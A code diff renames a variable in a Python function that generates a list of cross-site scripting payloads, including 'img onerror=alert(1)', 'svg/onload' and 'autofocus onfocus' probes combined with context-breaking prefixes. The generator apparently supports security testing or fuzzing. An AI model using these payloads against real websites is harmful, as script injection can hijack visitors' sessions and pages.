@@ -90,11 +90,11 @@ _ODD = (
 
 def payloads() -> list[str]:
     """Return them all, each once."""
-    found = [f"<{e} {h}={c}>" for (e, h), c in product(_ELEMENTS, _CALLS)]
-    found += [f"<{e}/{h.upper()}='{_CALLS[0]}'>" for e, h in _ELEMENTS]
-    found += [carrier.format(scheme) for carrier, scheme in product(_CARRIERS, _SCHEMES)]
-    found += [f"{b}<img src=x onerror=alert(1)>" for b in _BREAKS]
-    found += [f"{b}<svg/onload=alert(1)>" for b in _BREAKS]
-    found += [f"{b} onfocus=alert(1) autofocus {b}" for b in _BREAKS]
-    found += _ODD
-    return list(dict.fromkeys(found))
+    texts = [f"<{e} {h}={c}>" for (e, h), c in product(_ELEMENTS, _CALLS)]
+    texts += [f"<{e}/{h.upper()}='{_CALLS[0]}'>" for e, h in _ELEMENTS]
+    texts += [carrier.format(scheme) for carrier, scheme in product(_CARRIERS, _SCHEMES)]
+    texts += [f"{b}<img src=x onerror=alert(1)>" for b in _BREAKS]
+    texts += [f"{b}<svg/onload=alert(1)>" for b in _BREAKS]
+    texts += [f"{b} onfocus=alert(1) autofocus {b}" for b in _BREAKS]
+    texts += _ODD
+    return list(dict.fromkeys(texts))
